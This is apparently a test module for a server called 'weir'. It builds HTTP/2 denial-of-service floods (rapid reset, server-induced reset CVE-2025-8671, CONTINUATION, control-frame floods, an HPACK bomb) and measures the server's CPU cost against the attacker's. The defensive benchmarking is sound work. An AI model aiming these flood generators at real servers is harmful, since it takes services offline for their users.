# SPDX-License-Identifier: Apache-2.0
"""Floods of HTTP/2 as the cheapest attacker sends them: bytes made once and sent again and again.

What weir spends on them, what the attacker spends, and what an honest request costs for comparison.
"""

import os
import socket
import threading
import time

from .http1 import response
from .http2 import (CONTINUATION, DATA, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, connect2,
                    frame)
from .need import need_module

hpack = need_module("hpack", "python3-hpack")

CANCEL = (8).to_bytes(4, "big")
TICK = os.sysconf("SC_CLK_TCK")
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "a.test"), (":path", "/")]
POST = [(":method", "POST"), *GET[1:]]
MANY = 950  # units a connection, so that the budget (1,000) never cuts off: the most that each can cost


def _resets(encode, number):
    return frame(HEADERS, 5, number, encode(GET)) + frame(RST_STREAM, 0, number, CANCEL)


def _induced(encode, number):
    """weir is made to reset the stream itself (CVE-2025-8671): its window overflows."""
    return frame(HEADERS, 4, number, encode(POST)) + frame(WINDOW_UPDATE, 0, number, b"\x7f\xff\xff\xff")


def _pieces(encode, number):
    return frame(HEADERS, 1, number, b"\x82") + frame(CONTINUATION, 0, number, b"") * 1000


def _bomb(encode, number):
    """A block that unpacks into a thousand times as much."""
    block = encode([*GET, *[("x-bomb", "b" * 3500)] * 4000])
    pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    return frame(HEADERS, 1 | 4 * (len(pieces) == 1), number, pieces[0]) + b"".join(
        frame(CONTINUATION, 4 * (p is pieces[-1]), number, p) for p in pieces[1:])


def _plain(*frames):
    return lambda encode, number: b"".join(frames)


# name: (what, first frames of a connection, one unit, units a connection, what a unit is)
FLOODS = {
    "rapid reset": (b"", _resets, MANY, "request"),
    "server-induced reset": (b"", _induced, MANY, "request"),
    "CONTINUATION": (b"", _pieces, 1, "connection"),
    "SETTINGS": (b"", _plain(frame(SETTINGS, 0, 0)), MANY, "frame"),
    "PING": (b"", _plain(frame(PING, 0, 0, b"weirtest")), MANY, "frame"),
    "empty DATA": (None, _plain(frame(DATA, 0, 1)), MANY, "frame"),
    "WINDOW_UPDATE": (b"", _plain(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")), MANY, "frame"),
    "PRIORITY": (b"", _plain(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")), MANY, "frame"),
    "HPACK bomb": (b"", _bomb, 1, "connection"),
}


def made(kind):
    """The bytes of one connection, and where each unit of them ends."""
    first, unit, count, _ = FLOODS[kind]
    encode = hpack.Encoder().encode
    begin = PREFACE + frame(SETTINGS, 0, 0)
    begin += frame(HEADERS, 4, 1, encode(POST)) if first is None else first
    ends, whole = [], [begin]
    at = len(begin)
    for i in range(count):
        piece = unit(encode, 1 + 2 * i)
        at += len(piece)
        whole.append(piece)
        ends.append(at)
    return b"".join(whole), ends


def _send(address, data):
    """As much of it as weir takes; returns how much that was."""
    sent = 0
    with socket.create_connection(address) as s:
        try:
            while sent < len(data):
                sent += s.send(data[sent:sent + 65536])
            s.shutdown(socket.SHUT_WR)  # weir reads all of it, then the end
            s.settimeout(5)
            while s.recv(1 << 16):
                pass
        except OSError:
            pass
    return sent


def cpu_s(pid):
    """Seconds of CPU that a process has used."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICK


class Spent:
    """units: sent; weir_s, attacker_s: CPU; upstream: requests that came through."""

    def __init__(self, units, weir_s, attacker_s, upstream):
        self.units, self.weir_s, self.attacker_s, self.upstream = units, weir_s, attacker_s, upstream

    @property
    def each_us(self):
        return self.weir_s / self.units * 1e6


class Upstream:
    """Counts the requests that come, and answers them unless it `holds`: then their ends are waited for."""

    def __init__(self, backend, body=b"fine"):
        self.seen, self.holds = 0, False
        self.answer = response(200, body)
        self.lock = threading.Lock()
        backend.serve(self.handle)

    def handle(self, peer, head):
        with self.lock:
            self.seen += 1
        if self.holds:
            peer.wait_end(60)
        else:
            peer.send(self.answer)


def attack(w, upstream, kind, units):
    """So many units, over as many connections as it takes."""
    data, ends = made(kind)
    before, seen, sent = cpu_s(w.pid), upstream.seen, 0
    own = time.thread_time()
    while sent < units:
        got = _send(w.address, data)
        sent += sum(e <= got for e in ends) if len(ends) > 1 else 1
    own = time.thread_time() - own
    return Spent(sent, cpu_s(w.pid) - before, own, upstream.seen - seen)


def attack_begun(w, upstream, units, batch=50):
    """Resets of requests that have begun, which an attacker has to wait for; to the cut, and again."""
    before, seen, sent, own = cpu_s(w.pid), upstream.seen, 0, time.thread_time()
    ping = frame(PING, 0, 0, b"weirtest")
    while sent < units:
        with socket.create_connection(w.address) as s:
            s.settimeout(5)
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
            number, encode = 1, hpack.Encoder().encode
            try:
                while sent < units:
                    ids = range(number, number + 2 * batch, 2)
                    number += 2 * batch
                    s.sendall(b"".join(frame(HEADERS, 5, n, encode(GET)) for n in ids) + ping)
                    got = b""
                    while frame(PING, 1, 0, b"weirtest") not in got:
                        more = s.recv(1 << 16)
                        if not more:
                            raise ConnectionError
                        got = got[-16:] + more
                    s.sendall(b"".join(frame(RST_STREAM, 0, n, CANCEL) for n in ids))
                    sent += batch
            except OSError:
                pass
    return Spent(sent, cpu_s(w.pid) - before, time.thread_time() - own, upstream.seen - seen)


def honest(w, requests):
    """CPU seconds of weir for one honest request, many to a connection."""
    c = connect2(w)
    before = cpu_s(w.pid)
    for _ in range(0, requests, 50):
        for s in [c.open() for _ in range(50)]:
            c.answer(s, 20)
    return (cpu_s(w.pid) - before) / requests


def honest_connections(w, connections):
    """The same for a connection with one request."""
    before = cpu_s(w.pid)
    for _ in range(connections):
        c = connect2(w)
        assert c.ask().status == 200
        c.wire.close()
    return (cpu_s(w.pid) - before) / connections
